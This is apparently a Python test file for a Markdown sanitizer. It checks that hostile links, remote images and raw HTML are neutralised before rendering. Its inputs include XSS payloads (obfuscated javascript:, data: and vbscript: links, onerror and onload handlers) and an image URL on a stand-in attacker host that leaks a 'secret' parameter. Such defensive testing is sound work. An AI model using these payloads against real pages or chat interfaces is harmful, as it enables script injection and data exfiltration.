"""The server-side sanitizer for text we did not write: no live dangerous link, no remote image."""

from __future__ import annotations

import re

import pytest

from mlxui.ui.components.safe_markdown import REMOTE_IMAGE_CLASS, render_safe_markdown

DANGEROUS_LINKS = [
    "[a](javascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](java&Tab;script&colon;alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](data&colon;text/html,<script>alert(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript&colon;msgbox(1))",
    "[a][r]\n\n[r]: javascript&#58;alert(1)",
    "<a href='javascript:alert(1)'>a</a>",
]


@pytest.mark.parametrize("source", DANGEROUS_LINKS)
def test_no_dangerous_link_leaves_the_server(source: str) -> None:
    rendered = render_safe_markdown(source)
    hrefs = re.findall(r'href="([^"]*)"', rendered)
    assert all(h.startswith(("http://", "https://", "mailto:", "/", "#")) for h in hrefs), rendered
    assert "<script" not in rendered.lower() and "javascript" not in " ".join(hrefs).lower()


def test_ordinary_links_and_code_survive() -> None:
    rendered = render_safe_markdown(
        "[docs](https://example.com/a?b=1&c=2) and `x < y`\n\n```python\nx = 1\n```"
    )
    assert 'href="https://example.com/a?b=1&amp;c=2"' in rendered and 'rel="noopener noreferrer"' in rendered
    assert "x &lt; y" in rendered and "<pre>" in rendered


def test_remote_images_become_links_and_inline_images_stay() -> None:
    rendered = render_safe_markdown(
        "![chart](http://evil.example/x.png?d=secret) ![ref][img] ![dot](data:image/png;base64,iVBORw0KGgo=)"
        "\n\n[img]: https://evil.example/y.png"
    )
    assert "<img" in rendered and rendered.count("<img") == 1, "only the data: image is an image"
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in rendered
    links = re.findall(rf'<a href="([^"]*)" class="{REMOTE_IMAGE_CLASS}"', rendered)
    assert links == ["http://evil.example/x.png?d=secret", "https://evil.example/y.png"]
    assert "image: chart (evil.example)" in rendered


def test_raw_html_is_shown_as_text() -> None:
    rendered = render_safe_markdown('<img src=x onerror="alert(1)"> <svg onload=alert(2)>')
    assert "<img" not in rendered and "<svg" not in rendered
    assert "&lt;img src=x onerror=" in rendered
